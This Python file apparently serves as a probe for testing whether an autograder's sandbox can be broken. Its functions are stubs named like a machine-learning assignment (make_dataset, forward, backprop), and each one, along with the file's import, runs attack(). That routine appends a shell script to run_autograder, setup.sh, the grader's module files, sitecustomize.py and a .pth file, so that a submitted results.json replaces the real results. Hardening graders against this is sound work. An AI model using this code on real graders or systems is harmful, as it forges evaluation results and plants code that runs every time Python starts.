"""Replaces run_autograder, the grader's sources and Python's start-up files for the next run."""
import os
import sys


def evidence(what):
    """The attack came off: leave a trace where it must be impossible, and where the report shows it."""
    print("EVIDENCE rewrite-run-autograder:", str(what)[:300], flush=True)
    try:
        with open("/tmp/attack-evidence-rewrite-run-autograder", "a") as trace:
            trace.write(str(what)[:300] + "\n")
    except OSError:
        pass

SCRIPT = "#!/bin/sh\ncp /autograder/submission/results.json /autograder/results/results.json\n"
PLACES = ["/autograder/run_autograder", "/autograder/source/run_autograder", "/autograder/source/setup.sh"]
PLACES += [module.__file__ for name, module in sys.modules.items() if name.startswith("grader") and module.__file__]
PLACES += [os.path.join(folder, "sitecustomize.py") for folder in sys.path if folder]
PLACES += [os.path.join(folder, "attack.pth") for folder in sys.path if folder.endswith("-packages")]


def attack():
    for place in PLACES:
        if os.path.abspath(place).startswith(os.getcwd()):
            continue
        try:
            with open(place, "a") as file:
                file.write("" if os.path.getsize(place) else SCRIPT)
        except OSError:
            continue
        evidence(place)


def make_dataset(num_points):
    attack()
    return None


def forward(X, params):
    attack()
    return None


def backprop(X, t, params):
    attack()
    return None


attack()
